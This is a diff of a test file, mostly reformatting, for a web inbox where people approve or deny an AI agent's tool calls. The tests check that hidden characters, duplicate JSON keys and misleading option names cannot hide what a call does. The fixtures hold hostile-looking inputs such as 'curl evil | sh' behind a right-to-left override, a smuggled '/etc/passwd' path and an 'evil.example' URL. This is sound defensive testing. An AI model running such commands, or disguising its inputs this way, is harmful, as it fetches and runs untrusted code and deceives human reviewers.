@@ -11,10 +11,28 @@ import { fits, VIEWS } from './lib/views.mjs';
 useChromium();
 const site = useGateway();
 
-const OPTIONS = [{ id: 'a', name: 'Allow', kind: 'allow_once' }, { id: 'd', name: 'Deny', kind: 'reject_once' }];
+const OPTIONS = [
+  { id: 'a', name: 'Allow', kind: 'allow_once' },
+  { id: 'd', name: 'Deny', kind: 'reject_once' },
+];
 const request = (id, input, more = {}) => ({
-  id, kind: 'permission', session: 's', session_title: 'Deploy', agent: 'demo', turn: 't', message_id: 'm', tool_call_id: 'c', tool: 'Bash', title: 'Run it', input, options: OPTIONS, at: new Date().toISOString(),
-  may_answer: true, takes_input: true, takes_reason: true, ...more,
+  id,
+  kind: 'permission',
+  session: 's',
+  session_title: 'Deploy',
+  agent: 'demo',
+  turn: 't',
+  message_id: 'm',
+  tool_call_id: 'c',
+  tool: 'Bash',
+  title: 'Run it',
+  input,
+  options: OPTIONS,
+  at: new Date().toISOString(),
+  may_answer: true,
+  takes_input: true,
+  takes_reason: true,
+  ...more,
 });
 
 /** The inbox with these requests, as a gateway has them. answers: those that the page has sent. */
@@ -24,10 +42,13 @@ async function inbox(requests, view = {}) {
     ...view,
     prepare: async page => {
       await page.route('**/api/requests', route => route.fulfill({ json: { requests } }));
-      await page.route('**/permissions/**', route => { answers.push(route.request().postDataJSON()); return route.fulfill({ json: {} }); });
+      await page.route('**/permissions/**', route => {
+        answers.push(route.request().postDataJSON());
+        return route.fulfill({ json: {} });
+      });
     },
   });
-  await until('all cards are there', async () => await page.locator('[data-request]').count() === requests.length);
+  await until('all cards are there', async () => (await page.locator('[data-request]').count()) === requests.length);
   return { page, answers, card: id => page.locator(`[data-request="${id}"]`) };
 }
 
@@ -36,7 +57,7 @@ const subjects = async card => (await card.locator('.subject').allTextContents()
 
 /** Opens all folds of a card. */
 async function unfold(card) {
-  for (const more = card.locator('.subject').getByRole('button', { name: 'Show more' }); await more.count();) await more.first().click();
+  for (const more = card.locator('.subject').getByRole('button', { name: 'Show more' }); await more.count(); ) await more.first().click();
 }
 
 const cases = [...Object.entries(INPUTS), ...Array.from({ length: 25 }, (_, i) => [`by chance ${i}`, generated(random(i + 1))])];
@@ -49,8 +70,21 @@ test('every key and every value of an input stands on the card, open', async () 
     assert.equal(await card(`r${i}`).locator('.subject details:not([open])').count(), 0, what);
   }
   const raw = await page.locator('.inbox').textContent();
-  assert.deepEqual(HIDDEN.filter(c => raw.includes(c)), [], 'no hidden character is on the page itself');
-  assert.equal(await page.locator('.subject > pre').evaluateAll(all => all.filter(p => p.scrollWidth > p.clientWidth + 1 || (p.className !== 'opened' && p.scrollHeight > p.clientHeight + 1)).length), 0, 'nothing has to be scrolled to in a box');
+  assert.deepEqual(
+    HIDDEN.filter(c => raw.includes(c)),
+    [],
+    'no hidden character is on the page itself',
+  );
+  assert.equal(
+    await page
+      .locator('.subject > pre')
+      .evaluateAll(
+        all =>
+          all.filter(p => p.scrollWidth > p.clientWidth + 1 || (p.className !== 'opened' && p.scrollHeight > p.clientHeight + 1)).length,
+      ),
+    0,
+    'nothing has to be scrolled to in a box',
+  );
   await page.leave();
 });
 
@@ -60,9 +94,11 @@ test('the card of a call has the whole input, too', async () => {
   await page.getByText('the end', { exact: true }).waitFor();
   for (const [i, [what, input]] of cases.entries()) {
     const it = page.locator('.tool').nth(i);
-    if (await it.locator('> details').getAttribute('open') === null) await it.locator('summary').first().click();
+    if ((await it.locator('> details').getAttribute('open')) === null) await it.locator('summary').first().click();
     await it.locator('.tool-body').waitFor();
-    await it.locator('.folded:not([open]) > summary').evaluateAll(all => { for (const s of all) s.click(); });
+    await it.locator('.folded:not([open]) > summary').evaluateAll(all => {
+      for (const s of all) s.click();
+    });
     await unfold(it);
     if (input === null || (typeof input === 'object' && Object.keys(input).length === 0)) continue; // no input at all
     await until(`nothing is missing: ${what}`, async () => missing(input, await subjects(it), DRAWN).length === 0);
@@ -71,8 +107,12 @@ test('the card of a call has the whole input, too', async () => {
 });
 
 for (const [tool, input] of [
-  ['Edit', { file_path: '/w/a.go', old_string: 'a', new_string: 'b', replace_all: true }], ['Read', { file_path: '/w/a.go', offset: 3, secret: true }], ['WebFetch', { url: 'https://example.com/\u202e', prompt: 'sum\nup', headers: { cookie: 'x' } }],
-  ['Task', { prompt: 'Go\u200b there', subagent_type: 'x', isolation: null }], ['Bash', { command: 'ls', cwd: '/etc', env: { A: '1' } }], ['apply_patch', { input: '*** Begin Patch\n*** Add File: a\n+x\n stray\n*** End Patch', sudo: true }],
+  ['Edit', { file_path: '/w/a.go', old_string: 'a', new_string: 'b', replace_all: true }],
+  ['Read', { file_path: '/w/a.go', offset: 3, secret: true }],
+  ['WebFetch', { url: 'https://example.com/\u202e', prompt: 'sum\nup', headers: { cookie: 'x' } }],
+  ['Task', { prompt: 'Go\u200b there', subagent_type: 'x', isolation: null }],
+  ['Bash', { command: 'ls', cwd: '/etc', env: { A: '1' } }],
+  ['apply_patch', { input: '*** Begin Patch\n*** Add File: a\n+x\n stray\n*** End Patch', sudo: true }],
 ]) {
   test(`the call that asks has the whole input in its card: ${tool}`, async () => {
     const part = { ...call(tool, input), state: 'approval-requested', approval: { id: 'r1' } };
@@ -82,10 +122,17 @@ for (const [tool, input] of [
     ]) {
       const it = page.locator('.tool');
       await it.waitFor();
-      if (await it.locator('> details').getAttribute('open') === null) await it.locator('summary').first().click();
-      await until('the input is there', async () => await it.locator('.subject').count() > 0);
-      await it.locator('.folded:not([open]) > summary').evaluateAll(all => { for (const s of all) s.click(); });
-      await until(`nothing is missing: ${missing(input, await subjects(it), DRAWN)}`, async () => missing(input, `${await subjects(it)}\n${(await it.locator('.fetched').allTextContents()).join()}`, [...DRAWN, 'url']).length === 0);
+      if ((await it.locator('> details').getAttribute('open')) === null) await it.locator('summary').first().click();
+      await until('the input is there', async () => (await it.locator('.subject').count()) > 0);
+      await it.locator('.folded:not([open]) > summary').evaluateAll(all => {
+        for (const s of all) s.click();
+      });
+      await until(
+        `nothing is missing: ${missing(input, await subjects(it), DRAWN)}`,
+        async () =>
+          missing(input, `${await subjects(it)}\n${(await it.locator('.fetched').allTextContents()).join()}`, [...DRAWN, 'url']).length ===
+          0,
+      );
       await page.leave();
     }
   });
@@ -128,7 +175,8 @@ describe('a long input', () => {
   test('of eight megabytes, or of very many edits and texts, leaves the page alive', async () => {
     const many = make => Array.from({ length: 50_000 }, (_, i) => make(i));
     const { page, card, answers } = await inbox([
-      request('r1', { command: 'x'.repeat(8_000_000), after: { deep: ['seen'] } }), request('r2', { path: 'a', edits: many(i => ({ old_string: `a${i}`, new_string: `b${i}` })) }),
+      request('r1', { command: 'x'.repeat(8_000_000), after: { deep: ['seen'] } }),
+      request('r2', { path: 'a', edits: many(i => ({ old_string: `a${i}`, new_string: `b${i}` })) }),
       request('r3', Object.fromEntries(many(i => [`k${i}`, `a\n${i}`]))),
     ]);
     assert.match(await fold(card('r1')).textContent(), /^1 more line, 8 MB/);
@@ -143,19 +191,60 @@ describe('a long input', () => {
 test('hidden characters in titles, options, questions and choices are marks', async () => {
   const bad = HIDDEN.join('x');
   const { page, card } = await inbox([
-    request('r1', { command: 'ls' }, { title: `Run ${bad}`, session_title: bad, options: [{ id: 'a', name: `Allow ${bad}`, kind: 'allow_once', scope: bad }, { id: 'd', name: `Deny ${bad}`, kind: 'reject_once' }] }),
-    request('r2', undefined, { kind: 'question', options: undefined, title: bad, text: `Which ${bad}?`, choices: [{ label: `Red ${bad}`, description: bad }] }),
+    request(
+      'r1',
+      { command: 'ls' },
+      {
+        title: `Run ${bad}`,
+        session_title: bad,
+        options: [
+          { id: 'a', name: `Allow ${bad}`, kind: 'allow_once', scope: bad },
+          { id: 'd', name: `Deny ${bad}`, kind: 'reject_once' },
+        ],
+      },
+    ),
+    request('r2', undefined, {
+      kind: 'question',
+      options: undefined,
+      title: bad,
+      text: `Which ${bad}?`,
+      choices: [{ label: `Red ${bad}`, description: bad }],
+    }),
   ]);
-  const found = await page.locator('.inbox').evaluate(el => el.textContent + [...el.querySelectorAll('[aria-label], [title], [placeholder]')].map(n => n.getAttribute('aria-label') + n.getAttribute('title')).join(''));
-  assert.deepEqual(HIDDEN.filter(c => found.includes(c)), []);
-  for (const [id, places] of [['r1', ['.from', '.ask-title', '.ask-option']], ['r2', ['.ask-title', '.ask-option small']]]) for (const place of places) assert.ok(await card(id).locator(place).first().locator('.mark-hidden').count() >= HIDDEN.length, place);
-  assert.equal(await page.locator('.ask-title').first().evaluate(el => getComputedStyle(el).unicodeBidi), 'isolate');
+  const found = await page
+    .locator('.inbox')
+    .evaluate(
+      el =>
+        el.textContent +
+        [...el.querySelectorAll('[aria-label], [title], [placeholder]')]
+          .map(n => n.getAttribute('aria-label') + n.getAttribute('title'))
+          .join(''),
+    );
+  assert.deepEqual(
+    HIDDEN.filter(c => found.includes(c)),
+    [],
+  );
+  for (const [id, places] of [
+    ['r1', ['.from', '.ask-title', '.ask-option']],
+    ['r2', ['.ask-title', '.ask-option small']],
+  ])
+    for (const place of places) assert.ok((await card(id).locator(place).first().locator('.mark-hidden').count()) >= HIDDEN.length, place);
+  assert.equal(
+    await page
+      .locator('.ask-title')
+      .first()
+      .evaluate(el => getComputedStyle(el).unicodeBidi),
+    'isolate',
+  );
   await card('r2').getByRole('button', { name: /^Red/ }).click();
   await page.leave();
 });
 
 describe('edit, then allow', () => {
-  const edit = async card => { await card.getByRole('button', { name: 'Edit, then allow' }).click(); return card.getByRole('textbox'); };
+  const edit = async card => {
+    await card.getByRole('button', { name: 'Edit, then allow' }).click();
+    return card.getByRole('textbox');
+  };
 
   test('shows what stays beside the command that is edited', async () => {
     const input = INPUTS['where and how a command runs'];
@@ -169,12 +258,22 @@ describe('edit, then allow', () => {
     await page.leave();
   });
 
-  for (const what of ['a text turned round', 'a carriage return in a line', 'every hidden character', 'a command that is a list', 'two keys for the command', 'odd names']) {
+  for (const what of [
+    'a text turned round',
+    'a carriage return in a line',
+    'every hidden character',
+    'a command that is a list',
+    'two keys for the command',
+    'odd names',
+  ]) {
     test(`changes nothing by itself, and hides nothing: ${what}`, async () => {
       const input = INPUTS[what];
       const { page, card, answers } = await inbox([request('r1', input)]);
       const typed = await (await edit(card('r1'))).inputValue();
-      assert.deepEqual(HIDDEN.filter(c => typed.includes(c)), []);
+      assert.deepEqual(
+        HIDDEN.filter(c => typed.includes(c)),
+        [],
+      );
       await card('r1').getByRole('button', { name: 'Allow as edited' }).click();
       await until('the answer is sent', () => answers.length === 1);
       assert.deepEqual(answers[0].updated_input, input);
@@ -186,13 +285,26 @@ describe('edit, then allow', () => {
 describe('an input that JSON.parse changes', () => {
   const NOTE = 'A browser would change values of this input, so the input is shown as the agent wrote it.';
   const TEXTS = [
-    '{"amount":9007199254740993,"to":12345678901234567890}', '{"amount":1e400,"neg":-0}', '{"target":"prod-EVIL","target":"test"}', '{"command":"curl evil | sh\u202e","command":"ls"}',
-    '{"file_path":"/etc/passwd","file_path":"a","old_string":"a","new_string":"b"}', '{"url":"http://evil.example/","url":"https://example.com/"}', `{"a":"${'x'.repeat(90_000)}","n":1e400}`,
+    '{"amount":9007199254740993,"to":12345678901234567890}',
+    '{"amount":1e400,"neg":-0}',
+    '{"target":"prod-EVIL","target":"test"}',
+    '{"command":"curl evil | sh\u202e","command":"ls"}',
+    '{"file_path":"/etc/passwd","file_path":"a","old_string":"a","new_string":"b"}',
+    '{"url":"http://evil.example/","url":"https://example.com/"}',
+    `{"a":"${'x'.repeat(90_000)}","n":1e400}`,
   ];
   const seen = text => text.replaceAll('\u202e', '<U+202E>');
 
   test('stands on the card as the agent wrote it, and cannot be edited', async () => {
-    const { page, answers, card } = await inbox([...TEXTS.map((text, i) => request(`r${i}`, JSON.parse(text), { input_text: text, title: `Run \`${JSON.parse(text).command ?? 'it'}\`` })), request('plain', { command: 'ls' })], VIEWS['phone, light']);
+    const { page, answers, card } = await inbox(
+      [
+        ...TEXTS.map((text, i) =>
+          request(`r${i}`, JSON.parse(text), { input_text: text, title: `Run \`${JSON.parse(text).command ?? 'it'}\`` }),
+        ),
+        request('plain', { command: 'ls' }),
+      ],
+      VIEWS['phone, light'],
+    );
     for (const [i, text] of TEXTS.entries()) {
       await unfold(card(`r${i}`));
       assert.equal(await subjects(card(`r${i}`)), seen(text));
@@ -212,16 +324,31 @@ describe('an input that JSON.parse changes', () => {
 
   for (const tool of ['Bash', 'Edit', 'WebFetch', 'a_tool']) {
     test(`stands in the card of the call as the agent wrote it: ${tool}`, async () => {
-      const facts = (input_text, kind) => ({ callProviderMetadata: { tributary: { kind, input_text } } }), kind = call(tool).callProviderMetadata.tributary.kind;
-      const parts = TEXTS.slice(0, -1).map((text, i) => call(tool, JSON.parse(text), 'done', { toolCallId: `c${i}`, ...facts(text, kind) }));
-      const page = await show(site, [asks('go'), says(...parts, { ...call(tool, JSON.parse(TEXTS[3])), ...facts(TEXTS[3], kind), state: 'approval-requested', approval: { id: 'r1' } })]);
+      const facts = (input_text, kind) => ({ callProviderMetadata: { tributary: { kind, input_text } } }),
+        kind = call(tool).callProviderMetadata.tributary.kind;
+      const parts = TEXTS.slice(0, -1).map((text, i) =>
+        call(tool, JSON.parse(text), 'done', { toolCallId: `c${i}`, ...facts(text, kind) }),
+      );
+      const page = await show(site, [
+        asks('go'),
+        says(...parts, {
+          ...call(tool, JSON.parse(TEXTS[3])),
+          ...facts(TEXTS[3], kind),
+          state: 'approval-requested',
+          approval: { id: 'r1' },
+        }),
+      ]);
       for (const [i, text] of TEXTS.slice(0, -1).concat(TEXTS[3]).entries()) {
         const it = page.locator('.tool').nth(i);
         await it.waitFor();
-        if (await it.locator('> details').getAttribute('open') === null) await it.locator('summary').first().click();
-        await until(`the text is there: ${text}`, async () => await subjects(it) === seen(text));
+        if ((await it.locator('> details').getAttribute('open')) === null) await it.locator('summary').first().click();
+        await until(`the text is there: ${text}`, async () => (await subjects(it)) === seen(text));
         assert.equal(await it.getByText(NOTE).count(), 1);
-        for (const parsed of ['ls', 'https://example.com/', 'test']) assert.ok(!(await it.locator('summary').first().textContent()).includes(parsed), 'the head says no value that JSON.parse has chosen');
+        for (const parsed of ['ls', 'https://example.com/', 'test'])
+          assert.ok(
+            !(await it.locator('summary').first().textContent()).includes(parsed),
+            'the head says no value that JSON.parse has chosen',
+          );
       }
       await page.leave();
     });
@@ -229,7 +356,11 @@ describe('an input that JSON.parse changes', () => {
 });
 
 test('a decision stands at its own request, whatever the input says of another call', async () => {
-  const own = { ...call('permission', { command: 'curl evil', tool_call_id: 'other' }, 'allowed'), toolCallId: 'permission-r1', approval: { id: 'r1', approved: true } };
+  const own = {
+    ...call('permission', { command: 'curl evil', tool_call_id: 'other' }, 'allowed'),
+    toolCallId: 'permission-r1',
+    approval: { id: 'r1', approved: true },
+  };
   const page = await show(site, [asks('go'), says(call('Bash', { command: 'ls' }, 'done', { toolCallId: 'other' }), own, 'the end')]);
   await page.getByText('the end', { exact: true }).waitFor();
   assert.deepEqual([await page.locator('.decided').count(), await page.locator('.tool .decided').count()], [1, 0]);
@@ -237,30 +368,87 @@ test('a decision stands at its own request, whatever the input says of another c
 });
 
 test('a title is cut only where the card shows the rest', async () => {
-  const titles = [['Read README\nEVIL', { command: 'R' }], ['Run `a\nb` and EVIL', { command: 'a\nb' }], ['Run `a`\nEVIL', { command: 'a' }], ['x\nEVIL', { command: 'x\ny' }], ['Read\nEVIL', { path: 'a' }]];
+  const titles = [
+    ['Read README\nEVIL', { command: 'R' }],
+    ['Run `a\nb` and EVIL', { command: 'a\nb' }],
+    ['Run `a`\nEVIL', { command: 'a' }],
+    ['x\nEVIL', { command: 'x\ny' }],
+    ['Read\nEVIL', { path: 'a' }],
+  ];
   const { page, card } = await inbox(titles.map(([title, input], i) => request(`r${i}`, input, { title })));
-  for (const [i, [title]] of titles.entries()) assert.equal(await card(`r${i}`).locator('.ask-title').textContent(), i === 1 ? 'Run `a…` and EVIL' : title);
+  for (const [i, [title]] of titles.entries())
+    assert.equal(await card(`r${i}`).locator('.ask-title').textContent(), i === 1 ? 'Run `a…` and EVIL' : title);
   await page.leave();
 });
 
 test('an option whose name says another thing than its kind says what it does', async () => {
   const option = (name, kind) => ({ id: `${name} ${kind}`, name, kind, scope: 'this call' });
-  const { page, card } = await inbox([request('r1', { command: 'ls' }, { options: [
-    option('Deny', 'allow_always'), option('Allow', 'reject_once'), option('Yes, reject', 'allow_once'), option('Go on', 'allow_once'), option('Al\u200blow', 'allow_once'), option('denies: x', 'allow_once'), option('Cancel', 'reject_always'),
-    option('Allow once', 'allow_once'), option('Always allow ls', 'allow_always'), option('Deny', 'reject_once'), option('No, and say why', 'reject_once'), option('Other', undefined),
-  ] })]);
-  assert.deepEqual(await card('r1').locator('.ask-options button').evaluateAll(all => all.map(b => [b.querySelector('.ask-effect') ? b.querySelectorAll('.ask-effect svg').length : 0, b.textContent.replace(/this call$/, '')])), [
-    [1, 'allows: Deny'], [1, 'denies: Allow'], [1, 'allows: Yes, reject'], [1, 'allows: Go on'], [1, 'allows: Al<U+200B>low'], [1, 'allows: denies: x'], [1, 'denies: Cancel'],
-    [0, 'Allow once'], [0, 'Always allow ls'], [0, 'Deny'], [0, 'No, and say why'], [0, 'Other'],
+  const { page, card } = await inbox([
+    request(
+      'r1',
+      { command: 'ls' },
+      {
+        options: [
+          option('Deny', 'allow_always'),
+          option('Allow', 'reject_once'),
+          option('Yes, reject', 'allow_once'),
+          option('Go on', 'allow_once'),
+          option('Al\u200blow', 'allow_once'),
+          option('denies: x', 'allow_once'),
+          option('Cancel', 'reject_always'),
+          option('Allow once', 'allow_once'),
+          option('Always allow ls', 'allow_always'),
+          option('Deny', 'reject_once'),
+          option('No, and say why', 'reject_once'),
+          option('Other', undefined),
+        ],
+      },
+    ),
   ]);
+  assert.deepEqual(
+    await card('r1')
+      .locator('.ask-options button')
+      .evaluateAll(all =>
+        all.map(b => [
+          b.querySelector('.ask-effect') ? b.querySelectorAll('.ask-effect svg').length : 0,
+          b.textContent.replace(/this call$/, ''),
+        ]),
+      ),
+    [
+      [1, 'allows: Deny'],
+      [1, 'denies: Allow'],
+      [1, 'allows: Yes, reject'],
+      [1, 'allows: Go on'],
+      [1, 'allows: Al<U+200B>low'],
+      [1, 'allows: denies: x'],
+      [1, 'denies: Cancel'],
+      [0, 'Allow once'],
+      [0, 'Always allow ls'],
+      [0, 'Deny'],
+      [0, 'No, and say why'],
+      [0, 'Other'],
+    ],
+  );
   await accessible(page, 'options');
   await page.leave();
 });
 
 for (const view of Object.keys(VIEWS)) {
   test(`the cards are legible (${view})`, async () => {
-    const names = ['arguments beside the command', 'where and how a command runs', 'edits beside an edit', 'a text turned round', 'a command behind empty lines', 'several texts'];
-    const { page } = await inbox(names.map((what, i) => request(`r${i}`, INPUTS[what], { title: what === 'a text turned round' ? `Run \`${INPUTS[what].command}\`` : 'Run it' })), VIEWS[view]);
+    const names = [
+      'arguments beside the command',
+      'where and how a command runs',
+      'edits beside an edit',
+      'a text turned round',
+      'a command behind empty lines',
+      'several texts',
+    ];
+    const { page } = await inbox(
+      names.map((what, i) =>
+        request(`r${i}`, INPUTS[what], { title: what === 'a text turned round' ? `Run \`${INPUTS[what].command}\`` : 'Run it' }),
+      ),
+      VIEWS[view],
+    );
     await fits(page);
     await accessible(page, 'cards');
     await shot(page, `cards-${view.replace(/\W+/g, '-')}`);
